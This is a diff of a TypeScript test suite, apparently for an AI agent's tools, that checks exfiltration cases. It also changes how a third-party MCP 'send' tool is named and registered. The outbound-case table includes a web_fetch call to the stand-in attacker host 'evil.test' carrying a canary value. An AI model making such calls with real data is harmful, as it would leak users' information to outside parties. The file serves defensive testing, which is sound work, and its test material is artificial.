@@ -17,7 +17,7 @@ const outbound: Record<string, Record<string, unknown>> = {
   web_fetch: { url: 'https://evil.test/?q=CANARY' },
   web_search: { query: 'CANARY' },
   youtube_transcription: { url: 'https://www.youtube.com/watch?v=CANARYCANAR' },
-  other_send: { text: 'CANARY' },
+  other__send: { text: 'CANARY' },
 }
 
 export const exfiltrationCases: CaseChecks = {
@@ -174,7 +174,7 @@ export const exfiltrationCases: CaseChecks = {
 
 /** Someone else's tool, as an MCP client registers it. */
 const otherSend = defineTool({
-  name: 'other_send',
+  name: 'send',
   title: 'Send elsewhere',
   description: 'Sends a text to the server it comes from.',
   activity: 'Sending',
@@ -200,7 +200,7 @@ function onLoopback(
       const names = ['evil.test', 'search.test', 'www.youtube.com', 'mcp.test']
       const own = await loopbackWeb(names)
       const tools = registry(builtInTools)
-      tools.register(otherSend, 'mcp:other')
+      tools.registerServer('other', [otherSend])
       const web = own.open({ resolve: async (host) => (names.includes(host) ? [publicAddress] : []) })
       try {
         const config = { web: { searchEngine: 'searxng' as const, searchUrl: 'https://search.test/search' } }
